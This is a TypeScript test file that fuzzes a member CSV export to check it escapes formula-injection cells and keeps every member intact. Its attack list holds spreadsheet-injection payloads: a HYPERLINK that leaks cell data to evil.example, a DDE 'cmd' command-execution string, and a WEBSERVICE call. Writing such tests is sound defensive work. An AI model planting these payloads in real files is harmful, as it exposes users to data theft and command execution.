// No cell of a file that leaves us is a formula, and what was in it is still there.
import { environmentOf, size, type Sabotage } from './program.ts';
import { test } from 'node:test';
import { House } from '../e2e/house.ts';
import { Chance } from './chance.ts';
import { together } from './post.ts';
import { Findings } from './promises.ts';

const promise = {
  inert: 'no cell begins as a formula does',
  whole: 'what a cell held is in the file, behind an apostrophe at most',
  complete: 'every member is in the file once',
} as const;
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const attacks = ['HYPERLINK("http://evil.example?x="&A1,"see")', 'cmd|\' /C calc\'!A0', 'SUM(1+1)*cmd|\' /C calc\'!A0', '1', 'WEBSERVICE("http://evil.example")'];
const ends = ['', '"', ',', '\n=1', '";=1', '🏺', '\u202e', ', "=1+1"'];

/** A file of CSV by RFC 4180, read by a reader that shares nothing with the writer. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [];
  let [row, cell, inQuotes]: [string[], string, boolean] = [[], '', false];
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at]!;
    if (inQuotes && sign === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (sign === '"') inQuotes = !inQuotes;
    else if (!inQuotes && sign === ',') {
      row.push(cell);
      cell = '';
    } else if (!inQuotes && sign === '\n') {
      rows.push([...row, cell.replace(/\r$/, '')]);
      [row, cell] = [[], ''];
    } else cell += sign;
  }
  return rows;
}

async function attack(sabotage?: Sabotage): Promise<Findings> {
  const findings = new Findings();
  const chance = new Chance();
  const house = await House.open('sqlite', { environment: environmentOf(sabotage) });
  try {
    const { api } = house;
    const names = Array.from({ length: size(200, 5_000) }, () => (chance.one(signs) + chance.one(attacks) + chance.one(ends)).trim().slice(0, 100));
    const made = new Map<string, string>();
    await together(names.map((name, at) => ({ name, at })), 8, async ({ name, at }) => {
      const member = await api.do('create_member', { body: { email: `${at}@example.com`, first_name: name, last_name: chance.one(signs) } });
      made.set(member.email, member.first_name);
    });
    const [head, ...rows] = cellsOf((await api.do('export_members')).replace(/^\uFEFF/, ''));
    const [email, first] = [head!.indexOf('email'), head!.indexOf('first_name')];
    const bare = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/u.test(cell);
    findings.hold(promise.inert, rows.flat().filter(bare));
    findings.hold(promise.whole, rows.filter((row) => made.has(row[email]!) && row[first]!.replace(/^'/, '') !== made.get(row[email]!)).map((row) => row[first]!));
    const there = rows.map((row) => row[email]!);
    findings.hold(promise.complete, [...made.keys()].filter((one) => there.filter((other) => other === one).length !== 1));
    findings.figures['members'] = made.size;
    return findings;
  } finally {
    await house.close();
  }
}

test('no cell of a file that leaves us is a formula', async (context) => {
  const findings = await attack();
  findings.report(context);
  findings.assertKept();
});

test('broken on purpose: cells leave as they are', async (context) => {
  (await attack('raw_csv_cells')).assertBroken(context, promise.inert);
});
